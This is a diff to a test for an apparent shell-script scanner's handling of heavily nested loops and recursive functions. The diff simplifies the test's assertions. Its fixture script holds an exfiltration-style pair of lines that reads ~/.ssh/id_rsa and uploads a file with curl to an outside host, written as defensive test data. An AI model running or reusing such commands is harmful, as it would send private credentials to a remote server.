@@ -151,17 +151,12 @@ def test_long_shell_code_that_people_write_is_read_whole():
     assert not is_tangled(source, "bash")
 
 
-def test_loops_within_loops_and_functions_that_call_each_other_are_followed_so_often_and_no_more(
-    scan_in_time,
-):
+def test_loops_within_loops_and_functions_that_call_each_other_are_read_once(scan_in_time):
     """Each loop of twelve has five words: all of it would be 200 million rounds."""
     loops = "".join(f"for v{number} in a b c d e; do\n" for number in range(12))
     calls = "".join(f"f{number}() {{ f{number + 1} $1; f{number + 1} $1; }}\n" for number in range(30))
     inside = "f0 ~/.ssh/id_rsa\ncurl -T $v1 https://a.author-tools.dev\n"
     report = scan_in_time("run.sh", (calls + loops + inside + "done\n" * 12).encode())
-    assert report.status is ScanStatus.INCOMPLETE
-    harmless = inside.replace("~/.ssh/id_rsa", "notes.txt")
-    report = scan_in_time("run.sh", (calls + loops + harmless + "done\n" * 12).encode())
     assert report.status is ScanStatus.COMPLETE
 
 
